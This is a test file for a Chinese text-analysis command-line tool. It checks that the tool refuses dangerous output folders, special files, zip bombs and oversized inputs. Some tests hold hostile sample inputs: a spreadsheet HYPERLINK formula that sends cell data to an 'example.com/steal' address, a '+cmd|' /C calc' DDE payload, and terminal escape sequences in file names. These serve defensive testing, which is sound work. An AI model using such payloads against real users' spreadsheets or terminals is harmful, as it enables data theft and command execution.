/**
 * `npm run analyze` against hostile inputs and output folders, every fixture built here:
 * for each case the exit code, the message, no stack trace, and nothing outside the output
 * changed (every file, link and special file under the work folder hashed before and after).
 */
import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  cpSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { tableFromIPC } from 'apache-arrow';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { main } from '../../analysis/cli.ts';
import { LIMITS } from '../../analysis/limits.ts';
import { buildZip } from '../fixtures/parse/make-fixtures.ts';
import { writeSyntheticCorpus } from '../../bench/corpus.ts';

const ROOT = join(import.meta.dirname, '../..');
const DICT = join(ROOT, 'data/dict');
const HUNAN = readFileSync(join(ROOT, 'data/editions/2026-hunan.txt'), 'utf8');

let work: string;
let sockets: Server[] = [];

/** Type and content of everything under `dir`, links and special files included, none followed. */
function snapshot(dir: string, skip: string[] = []): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (path: string, rel: string) => {
    for (const name of readdirSync(path).sort()) {
      const full = join(path, name);
      const key = rel ? `${rel}/${name}` : name;
      if (skip.includes(full)) continue;
      const stats = lstatSync(full);
      if (stats.isSymbolicLink()) out[key] = `link → ${readlinkSync(full)}`;
      else if (stats.isDirectory()) {
        out[key] = `dir ${stats.mode & 0o777}`;
        if ((stats.mode & 0o500) === 0o500) walk(full, key);
      } else if (stats.isFile()) out[key] = createHash('sha256').update(readFileSync(full)).digest('hex');
      else out[key] = `special ${stats.mode}`;
    }
  };
  walk(dir, '');
  return out;
}

async function analyze(argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => (out.push(String(chunk)), true));
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => (err.push(String(chunk)), true));
  try {
    const code = await main(argv);
    return { code, stdout: out.join(''), stderr: err.join('') };
  } finally {
    vi.restoreAllMocks();
  }
}

/** A folder with the two bundled guides and their editions.json. */
function editionsFolder(name: string): string {
  const dir = join(work, 'cases', name);
  cpSync(join(ROOT, 'data/editions'), dir, { recursive: true });
  return dir;
}

/** A refused run: its code, its message, no stack trace, and the work folder exactly as before. */
async function expectRefused(argv: string[], code: number, ...mentions: (string | RegExp)[]) {
  const before = snapshot(work);
  const result = await analyze(argv);
  expect(result.code, result.stderr).toBe(code);
  for (const m of mentions) expect(result.stderr).toMatch(m);
  expect(result.stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
  expect(snapshot(work)).toEqual(before);
  return result;
}

beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'crosstrack-hostile-'));
  mkdirSync(join(work, 'cases'));
  mkdirSync(join(work, 'docs'));
  writeFileSync(join(work, 'docs', 'thesis.docx'), '我的论文，三年心血');
  writeFileSync(join(work, 'notes.txt'), '一个普通文件');
});

afterEach(() => vi.restoreAllMocks());
afterAll(() => {
  sockets.forEach((s) => s.close());
  sockets = [];
});

describe('--out never destroys what the analysis did not create', () => {
  it('refuses a folder of someone’s documents, a file, devices and system folders', async () => {
    const editions = editionsFolder('out-targets');
    const base = [editions, '--dict', DICT, '--quiet'];
    await expectRefused([...base, '--out', join(work, 'docs')], 1, /不是 Crosstrack 的分析输出/, /thesis\.docx/);
    await expectRefused([...base, '--out', join(work, 'notes.txt')], 1, /--out 指向的是一个文件/);
    await expectRefused([...base, '--out', '/dev/null'], 1, /系统目录/);
    await expectRefused([...base, '--out', '/proc/crosstrack-out'], 1, /系统目录/);
    await expectRefused([...base, '--out', '/sys/crosstrack-out'], 1, /系统目录/);
    await expectRefused([...base, '--out', join(work, 'notes.txt', 'out')], 1, /是文件而不是文件夹/);
    await expectRefused([...base, '--out', ''], 2, /--out 不能为空/);
    expect(readFileSync(join(work, 'docs', 'thesis.docx'), 'utf8')).toBe('我的论文，三年心血');
  });

  it('refuses an output that is, contains or lies inside an input or the dictionaries', async () => {
    const editions = editionsFolder('overlap');
    const dict = join(work, 'cases', 'overlap-dict');
    cpSync(DICT, dict, { recursive: true });
    const base = [editions, '--dict', dict, '--quiet'];
    await expectRefused([...base, '--out', editions], 1, /就是输入/);
    await expectRefused([...base, '--out', join(editions, 'out')], 1, /位于输入/);
    await expectRefused([...base, '--out', join(work, 'cases')], 1, /包含输入/);
    await expectRefused([...base, '--out', dict], 1, /就是词典文件夹/);
    await expectRefused([editions, '--dict', dict, '--quiet', '--out', join(editions, '2026-hunan.txt')], 1, /位于输入/);
  });

  it('refuses `--out .` from the project root (it holds the inputs and the dictionaries)', async () => {
    const parent = dirname(ROOT);
    const before = readdirSync(parent).sort();
    const result = await analyze(['--out', '.', '--quiet']);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/包含(输入|词典文件夹)/);
    expect(readdirSync(parent).sort()).toEqual(before);
  });

  it('replaces a previous output, through a symlink too, but not one holding a foreign file', async () => {
    const editions = editionsFolder('previous');
    const out = join(work, 'previous-out');
    expect((await analyze([editions, '--out', out, '--dict', DICT, '--quiet'])).code).toBe(0);
    const link = join(work, 'previous-link');
    symlinkSync(out, link);
    const again = await analyze([editions, '--out', link, '--dict', DICT, '--quiet']);
    expect(again.code, again.stderr).toBe(0);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(existsSync(join(out, 'manifest.json'))).toBe(true);

    writeFileSync(join(out, 'csv', '我的批注.xlsx'), 'notes');
    await expectRefused([editions, '--out', out, '--dict', DICT, '--quiet'], 1, /不属于分析结果的 csv\/我的批注\.xlsx/);
    expect(readFileSync(join(out, 'csv', '我的批注.xlsx'), 'utf8')).toBe('notes');
  });
});

describe('a killed run leaves no temporary folder behind', () => {
  /** A process id that is certainly not running: a child that already exited. */
  const deadPid = () => Number(execFileSync(process.execPath, ['-e', 'process.stdout.write(String(process.pid))'], { encoding: 'utf8' }));

  it('the next run removes a dead run’s temporary folder and restores a swap cut short', async () => {
    const editions = editionsFolder('stale');
    const parent = join(work, 'stale');
    mkdirSync(parent);
    const out = join(parent, 'out');
    const dead = deadPid();
    mkdirSync(join(parent, `.out.tmp-${dead}`));
    writeFileSync(join(parent, `.out.tmp-${dead}`, '.crosstrack-staging'), `${dead}\n`);
    writeFileSync(join(parent, `.out.tmp-${dead}`, 'term_topic.arrow'), Buffer.alloc(1024 * 1024));
    // Someone else's folder that happens to match the pattern, without our marker: kept.
    mkdirSync(join(parent, `.out.tmp-${dead + 1}`));
    writeFileSync(join(parent, `.out.tmp-${dead + 1}`, 'mine.txt'), 'not yours');
    // A live run's folder: kept.
    const sleeper = execFileSync('sh', ['-c', 'sleep 60 >/dev/null 2>&1 & echo $!'], { encoding: 'utf8' }).trim();
    mkdirSync(join(parent, `.out.tmp-${sleeper}`));
    writeFileSync(join(parent, `.out.tmp-${sleeper}`, '.crosstrack-staging'), sleeper);
    try {
      expect((await analyze([editions, '--out', out, '--dict', DICT, '--quiet'])).code).toBe(0);
      expect(readdirSync(parent).sort()).toEqual([`.out.tmp-${dead + 1}`, `.out.tmp-${sleeper}`, 'out'].sort());
    } finally {
      process.kill(Number(sleeper));
    }

    // Killed between moving the old output aside and moving the new one in: the old comes back.
    const dead2 = deadPid();
    cpSync(out, join(parent, `.out.old-${dead2}`), { recursive: true });
    rmSync(out, { recursive: true });
    const broken = join(work, 'cases', 'stale-broken');
    mkdirSync(broken);
    writeFileSync(join(broken, '2027-x.txt'), '没有赛道的文字\n');
    const failed = await analyze([broken, '--out', out, '--dict', DICT, '--quiet']);
    expect(failed.code).toBe(1);
    expect(existsSync(join(out, 'manifest.json'))).toBe(true);
    expect(existsSync(join(parent, `.out.old-${dead2}`))).toBe(false);
  });
});

describe('a run interrupted by a signal', () => {
  /** Starts the CLI on a corpus big enough to take seconds; resolves once its temporary folder exists. */
  async function startRun(corpus: string, out: string) {
    const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'analysis/cli.ts'), corpus, '--out', out, '--dict', DICT, '--quiet'], {
      cwd: ROOT,
      stdio: 'ignore'
    });
    const temp = join(dirname(out), `.${'out'}.tmp-${child.pid}`);
    const exited = new Promise<{ code: number | null; signal: NodeJS.Signals | null }>((r) => child.once('exit', (code, signal) => r({ code, signal })));
    const deadline = Date.now() + 30_000;
    while (!existsSync(temp) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
    expect(existsSync(temp)).toBe(true);
    return { child, temp, exited };
  }

  it('SIGINT removes the temporary folder at once; after SIGKILL the next run does', async () => {
    const corpus = join(work, 'cases', 'signal-corpus');
    writeSyntheticCorpus(ROOT, corpus, 40);
    const parent = join(work, 'signal');
    mkdirSync(parent);
    const out = join(parent, 'out');
    expect((await analyze([join(ROOT, 'data/editions'), '--out', out, '--dict', DICT, '--quiet'])).code).toBe(0);
    const previous = snapshot(out);

    const interrupted = await startRun(corpus, out);
    interrupted.child.kill('SIGINT');
    expect((await interrupted.exited).code).toBe(130);
    expect(readdirSync(parent)).toEqual(['out']);
    expect(snapshot(out)).toEqual(previous);

    const killed = await startRun(corpus, out);
    killed.child.kill('SIGKILL');
    expect((await killed.exited).signal).toBe('SIGKILL');
    expect(existsSync(killed.temp)).toBe(true);
    expect(snapshot(out)).toEqual(previous);
    expect((await analyze([join(ROOT, 'data/editions'), '--out', out, '--dict', DICT, '--quiet'])).code).toBe(0);
    expect(readdirSync(parent)).toEqual(['out']);
  }, 120_000);
});

describe('only regular files are read; nothing hangs', () => {
  it('refuses a FIFO (in a folder or given directly), a device link, a socket, a loop and a folder named .txt', async () => {
    const editions = editionsFolder('specials');
    execFileSync('mkfifo', [join(editions, 'pipe.txt')]);
    symlinkSync('/dev/zero', join(editions, 'zero.txt'));
    symlinkSync(join(editions, 'loop-b.txt'), join(editions, 'loop-a.txt'));
    symlinkSync(join(editions, 'loop-a.txt'), join(editions, 'loop-b.txt'));
    mkdirSync(join(editions, 'folder.txt'));
    const socket = createServer().listen(join(editions, 'socket.md'));
    sockets.push(socket);
    await new Promise((r) => socket.once('listening', r));
    const out = join(work, 'specials-out');
    const result = await expectRefused([editions, '--out', out, '--dict', DICT, '--quiet'], 1, /FIFO/, /字符设备/, /循环/, /而是一个文件夹/, /套接字/);
    // Every refusal at once, each naming its file.
    for (const name of ['pipe.txt', 'zero.txt', 'loop-a.txt', 'folder.txt', 'socket.md']) expect(result.stderr).toContain(name);
    await expectRefused([join(editions, 'pipe.txt'), '--out', out, '--dict', DICT, '--quiet'], 1, /FIFO/);
    await expectRefused([editions, '--out', out, '--dict', join(editions, 'pipe.txt'), '--quiet'], 1);
  }, 30_000);

  it('a FIFO in the dictionary folder is refused, not read', async () => {
    const dict = join(work, 'cases', 'fifo-dict');
    cpSync(DICT, dict, { recursive: true });
    rmSync(join(dict, 'terms.txt'));
    execFileSync('mkfifo', [join(dict, 'terms.txt')]);
    await expectRefused([join(ROOT, 'data/editions'), '--out', join(work, 'fifo-dict-out'), '--dict', dict, '--quiet'], 1, /terms\.txt/, /FIFO/);
  }, 30_000);
});

describe('every input is bounded, the limit and the file named', () => {
  it('a guide over 20 MB is refused from its size; --max-file-mb raises the bound', async () => {
    const editions = editionsFolder('oversize');
    const big = join(editions, '2027-big.txt');
    writeFileSync(big, '');
    truncateSync(big, 21 * 1024 * 1024);
    const out = join(work, 'oversize-out');
    await expectRefused([editions, '--out', out, '--dict', DICT, '--quiet'], 1, /2027-big\.txt/, /21 MB/, /上限 20 MB/, /--max-file-mb/);
    // Past the size check, the same file is refused for what it is (NUL bytes), not for its size.
    await expectRefused([editions, '--out', out, '--dict', DICT, '--quiet', '--max-file-mb', '30'], 1, /二进制文件（NUL）/);
  });

  it('a zip-bomb .docx is refused before it is inflated', async () => {
    const editions = editionsFolder('bomb');
    const paragraph = '<w:p><w:r><w:t>赛道一：工业制造赛道</w:t></w:r></w:p>';
    writeFileSync(
      join(editions, '2027-bomb.docx'),
      buildZip({ 'word/document.xml': `<w:document><w:body>${paragraph.repeat(Math.ceil((LIMITS.docxXmlBytes + 1024) / paragraph.length))}</w:body></w:document>` })
    );
    expect(lstatSync(join(editions, '2027-bomb.docx')).size).toBeLessThan(2 * 1024 * 1024);
    await expectRefused([editions, '--out', join(work, 'bomb-out'), '--dict', DICT, '--quiet'], 1, /2027-bomb\.docx/, /解压后的 XML 内容超过上限 60 MB/);
  });

  it('a 100 KB dictionary term is refused at once, with its line', async () => {
    const dict = join(work, 'cases', 'long-term-dict');
    cpSync(DICT, dict, { recursive: true });
    writeFileSync(join(dict, 'terms.txt'), `可信数据空间\n${'数'.repeat(100_000)}\n`);
    const started = performance.now();
    await expectRefused([join(ROOT, 'data/editions'), '--out', join(work, 'long-term-out'), '--dict', dict, '--quiet'], 1, /terms\.txt:2/, /100000 个字，超过词长上限 50/);
    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it('a line past the limit is refused with its file and line', async () => {
    const editions = editionsFolder('long-line');
    writeFileSync(join(editions, '2027-long.txt'), `赛道一：工业制造赛道\n一、题目\n${'数据'.repeat(LIMITS.lineChars)}\n`);
    await expectRefused([editions, '--out', join(work, 'long-line-out'), '--dict', DICT, '--quiet'], 1, /2027-long\.txt:3/, /每行上限 20,000/);
  });

  it('more than 100 tracks are refused with the line of the first one over', async () => {
    const editions = editionsFolder('tracks');
    const text = Array.from({ length: LIMITS.tracks + 1 }, (_, i) => `赛道${i + 1}：领域${i + 1}赛道\n1. 题目\n`).join('');
    writeFileSync(join(editions, '2027-tracks.txt'), text);
    await expectRefused([editions, '--out', join(work, 'tracks-out'), '--dict', DICT, '--quiet'], 1, /2027-tracks\.txt:201/, /上限 100/);
  });

  it('--workers is clamped to the machine, with a warning', async () => {
    const result = await analyze([join(ROOT, 'data/editions'), '--out', join(work, 'workers-out'), '--dict', DICT, '--quiet', '--workers', '1000']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toMatch(/--workers 1000 超过本机的 \d+ 个处理器核心，已按 \d+ 个运行/);
  });
});

describe('messages that used to be wrong', () => {
  it('a GBK dictionary is called not UTF-8 (GBK), not “contains punctuation”', async () => {
    const dict = join(work, 'cases', 'gbk-dict');
    cpSync(DICT, dict, { recursive: true });
    // 可信数据空间 / 隐私计算 in GBK.
    writeFileSync(join(dict, 'terms.txt'), Buffer.from([0xbf, 0xc9, 0xd0, 0xc5, 0xca, 0xfd, 0xbe, 0xdd, 0xbf, 0xd5, 0xbc, 0xe4, 0x0a, 0xd2, 0xfe, 0xcb, 0xbd, 0xbc, 0xc6, 0xcb, 0xe3, 0x0a]));
    const result = await expectRefused([join(ROOT, 'data/editions'), '--out', join(work, 'gbk-out'), '--dict', dict, '--quiet'], 1, /terms\.txt:1/, /不是 UTF-8 编码（看起来是 GBK\/GB18030）/);
    expect(result.stderr).not.toContain('标点');
  });

  it('a thesaurus conflict names both lines', async () => {
    const dict = join(work, 'cases', 'conflict-dict');
    cpSync(DICT, dict, { recursive: true });
    writeFileSync(join(dict, 'thesaurus.tsv'), 'AI\t人工智能\nAI\t大数据\n');
    const result = await expectRefused([join(ROOT, 'data/editions'), '--out', join(work, 'conflict-out'), '--dict', dict, '--quiet'], 1, /第 1 行/, /第 2 行/, /line 2/);
    expect(result.stderr).not.toContain('undefined');
  });

  it('two editions with one id are reported with both paths', async () => {
    const a = editionsFolder('dup-a');
    const b = editionsFolder('dup-b');
    const result = await expectRefused([a, b, '--out', join(work, 'dup-out'), '--dict', DICT, '--quiet'], 1, /重复/);
    expect(result.stderr).toContain(join(a, '2026-hunan.txt'));
    expect(result.stderr).toContain(join(b, '2026-hunan.txt'));
  });

  it('a file named like an option is not taken as one; unknown options are explained', async () => {
    const cwd = process.cwd();
    const here = join(work, 'cases', 'option-named');
    mkdirSync(here);
    writeFileSync(join(here, '--out=x.txt'), HUNAN);
    process.chdir(here);
    try {
      await expectRefused(['--out=x.txt', '--dict', DICT, '--quiet'], 2, /--out=x\.txt 既可以是选项/, /\.\/--out=x\.txt/);
    } finally {
      process.chdir(cwd);
    }
    const unknown = await expectRefused(['--frobnicate', '--quiet'], 2, /未知选项 --frobnicate/);
    expect(unknown.stderr).not.toContain('Unknown option');
  });

  it('control characters from guides and file names are printed escaped', async () => {
    const editions = editionsFolder('ansi');
    // An empty track whose heading carries a title-setting OSC and a colour: it is named in a warning.
    writeFileSync(join(editions, '2027-ansi.txt'), `${HUNAN}\n赛道九十：\u001b]0;pwned\u0007\u001b[31m红色赛道\n`);
    const ok = await analyze([editions, '--out', join(work, 'ansi-out'), '--dict', DICT, '--quiet']);
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stderr).toContain('\\x1B]0;pwned\\x07\\x1B[31m红色赛道');
    expect(ok.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);

    const bad = join(editions, `2028-\u001b[2J\rforged.txt`);
    writeFileSync(bad, '只有一段说明\n');
    const failed = await analyze([editions, '--out', join(work, 'ansi-out'), '--dict', DICT, '--quiet']);
    expect(failed.code).toBe(1);
    expect(failed.stderr).toContain('2028-\\x1B[2J\\x0Dforged.txt');
    expect(failed.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f]/);
  });
});

describe('CSV copies are safe to open in Excel; Arrow keeps the text', () => {
  it('neutralises a formula-like title and body in csv/, not in the Arrow table', async () => {
    const editions = join(work, 'cases', 'formula');
    mkdirSync(editions);
    const title = '=HYPERLINK("http://example.com/steal?d="&A1,"点击")';
    writeFileSync(join(editions, '2027-formula.txt'), `赛道一：工业制造赛道\n一、${title}\n+cmd|' /C calc'!A0 数据要素\n二、普通题目\n-1 是负数开头的说明\n`);
    const out = join(work, 'formula-out');
    const result = await analyze([editions, '--out', out, '--dict', DICT, '--quiet']);
    expect(result.code, result.stderr).toBe(0);
    const csv = readFileSync(join(out, 'csv', 'topics.csv'), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://example.com/steal?d=""&A1,""点击"")"`);
    expect(csv).toContain(`'+cmd|' /C calc'!A0 数据要素`);
    expect(csv).toContain(`'-1 是负数开头的说明`);
    const topics = tableFromIPC(readFileSync(join(out, 'topics.arrow'))).toArray().map((r) => r.toJSON());
    expect(topics.map((t) => t.title)).toEqual([title, '普通题目']);
    expect(topics[0].body).toBe(`+cmd|' /C calc'!A0 数据要素`);
    // Numbers stay numbers: the first data line's counts are not quoted or prefixed.
    expect(readFileSync(join(out, 'csv', 'editions.csv'), 'utf8').split('\r\n')[1]).toMatch(/,\d+,\d+,\d+,\d+,\d+,true$/);
  });
});

describe('environment errors are sentences naming the path (a user who may not write there)', () => {
  const root = process.getuid?.() === 0;

  /** Runs the CLI as an unprivileged user when we are root (root ignores permissions). */
  function runAsUser(args: string[]) {
    try {
      const stdout = execFileSync(process.execPath, ['--import', 'tsx', join(ROOT, 'analysis/cli.ts'), ...args], {
        cwd: ROOT,
        encoding: 'utf8',
        stdio: ['ignore', 'pipe', 'pipe'],
        ...(root ? { uid: 65534, gid: 65534 } : {}),
        env: { ...process.env, HOME: work }
      });
      return { code: 0, stdout, stderr: '' };
    } catch (error) {
      const e = error as { status: number; stdout: string; stderr: string };
      return { code: e.status, stdout: e.stdout, stderr: e.stderr };
    }
  }

  it('a read-only folder for the output and an unreadable guide', () => {
    const place = mkdtempSync(join(tmpdir(), 'crosstrack-perm-'));
    chmodSync(place, 0o755);
    const editions = join(place, 'editions');
    cpSync(join(ROOT, 'data/editions'), editions, { recursive: true });
    chmodSync(editions, 0o755);
    for (const name of readdirSync(editions)) chmodSync(join(editions, name), 0o644);
    const readOnly = join(place, 'read-only');
    mkdirSync(readOnly);
    writeFileSync(join(readOnly, 'canary.txt'), 'still here');
    chmodSync(readOnly, 0o555);
    const before = snapshot(place);
    const denied = runAsUser([editions, '--out', join(readOnly, 'out'), '--dict', DICT, '--quiet']);
    expect(denied.code, denied.stderr).toBe(1);
    expect(denied.stderr).toContain(`${readOnly}: 错误 error: 没有权限写入`);
    expect(denied.stderr).toMatch(/permission denied/);
    expect(denied.stderr).not.toMatch(/^\s+at /m);
    expect(snapshot(place)).toEqual(before);

    chmodSync(join(editions, '2026-hunan.txt'), 0o000);
    chmodSync(place, 0o777);
    const unreadable = runAsUser([editions, '--out', join(place, 'out'), '--dict', DICT, '--quiet']);
    expect(unreadable.code, unreadable.stderr).toBe(1);
    expect(unreadable.stderr).toContain(join(editions, '2026-hunan.txt'));
    expect(unreadable.stderr).toMatch(/没有权限/);
    expect(existsSync(join(place, 'out'))).toBe(false);
    chmodSync(readOnly, 0o755);
  }, 60_000);
});
